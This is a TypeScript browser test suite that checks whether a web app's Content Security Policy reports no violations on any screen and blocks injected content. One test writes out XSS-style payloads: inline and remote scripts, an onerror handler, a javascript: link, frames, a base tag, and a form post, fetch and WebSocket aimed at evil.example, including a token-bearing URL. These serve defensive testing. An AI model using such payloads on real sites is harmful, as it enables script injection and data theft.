// The browser holds every page to its policy: no screen offends against it, and what an attacker would add to
// a page does nothing.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Visitor } from '../harness/browser.ts';
import { type Campus, openCampus } from '../harness/campus.ts';
import { allScreens } from '../screens/all-screens.ts';
import { openScreen } from '../screens/photograph.ts';
import { preparePlace } from '../screens/prepare-place.ts';
import type { Place } from '../screens/screen.ts';
import { windowsOf } from '../screens/windows.ts';

let campus: Campus;
let place: Place;
beforeAll(async () => {
  campus = await openCampus();
  place = await preparePlace(campus, 0, false);
});
afterAll(() => campus?.close());

declare global {
  interface Window {
    offences?: string[];
  }
}

/** A window that notes what the browser refuses, from the first moment of each page. */
const watchedWindow = async (): Promise<Visitor> => {
  const visitor = await campus.window();
  await visitor.context.addInitScript(() => {
    window.offences = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) =>
      window.offences?.push(`${effectiveDirective} ${blockedURI} ${sourceFile ?? ''}`),
    );
  });
  return visitor;
};

const watchedEntry = async (account: string, path: string): Promise<Visitor> => {
  const visitor = await watchedWindow();
  await campus.signIn(visitor, account, path);
  return visitor;
};

const offencesOf = (page: Page): Promise<string[]> => page.evaluate(() => window.offences ?? ['not watched']);

describe('no screen offends against its policy', () => {
  const windows = windowsOf({ admit: watchedWindow, enter: watchedEntry });
  afterAll(() => windows.close());

  it.each(allScreens)('$name', async (screen) => {
    const visitor = await windows.of(screen);
    await openScreen(visitor.page, screen, place);
    expect(await offencesOf(visitor.page)).toEqual([]);
    await screen.leave?.(place);
    await windows.leave(visitor, screen);
  });

  it('the sign-in page, filled wrongly as well', async () => {
    const visitor = await watchedWindow();
    const { page } = visitor;
    await page.goto(`${campus.server.url}/pc/home`);
    await page.locator('input[type=password]').waitFor();
    expect(await offencesOf(page)).toEqual([]);
    await page.locator('input[type=text]').first().fill('student1');
    await page.locator('input[type=password]').fill('wrong');
    await page.locator('button[type=submit]').click();
    await page.getByRole('alert').waitFor();
    expect(await offencesOf(page)).toEqual([]);
    await visitor.context.close();
  });
});

describe('what an attacker adds to a page', () => {
  it('does nothing: it runs no script, shows no frame, reaches no other address', async () => {
    const visitor = await watchedEntry('student1', '/pc/home');
    const { page } = visitor;
    const outcome = await page.evaluate(async () => {
      const add = (tag: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        element.textContent = text;
        document.body.append(element);
        return element;
      };
      add('script', {}, 'window.inlineRan = true');
      add('script', { src: 'https://evil.example/x.js' });
      add('img', { src: 'x:', onerror: 'window.handlerRan = true' });
      add('a', { href: 'javascript:window.linkRan=true' }).click();
      add('style', {}, 'body { background: url(https://evil.example/seen) }');
      add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
      add('iframe', { src: 'https://evil.example/' });
      add('object', { data: 'https://evil.example/' });
      add('base', { href: 'https://evil.example/' });
      const form = add('form', { action: 'https://evil.example/', method: 'post', target: '_blank' });
      if (form instanceof HTMLFormElement) form.submit();
      const reached: string[] = [];
      await fetch('https://evil.example/?token=1').then(
        () => reached.push('fetch'),
        () => undefined,
      );
      await new Promise<void>((resolve) => {
        const socket = new WebSocket('wss://evil.example/');
        socket.onerror = () => resolve();
        socket.onopen = () => {
          reached.push('socket');
          resolve();
        };
        setTimeout(resolve, 20_000);
      });
      return { reached, base: new URL('.', document.baseURI).host === location.host };
    });
    expect(outcome).toEqual({ reached: [], base: true });
    const refused = async () =>
      [...new Set((await offencesOf(page)).map((offence) => offence.split(' ', 1)[0]))].toSorted();
    await expect
      .poll(refused)
      .toEqual(
        [
          ...['script-src-elem', 'script-src-attr', 'style-src-elem', 'img-src', 'frame-src', 'object-src'],
          ...['form-action', 'connect-src'],
        ].toSorted(),
      );
    // Each was refused by now, and what is refused does not run later.
    const ran = await page.evaluate(() =>
      ['inlineRan', 'handlerRan', 'linkRan'].filter((name) => Reflect.get(window, name) === true),
    );
    expect(ran).toEqual([]);
    await visitor.context.close();
  });
});
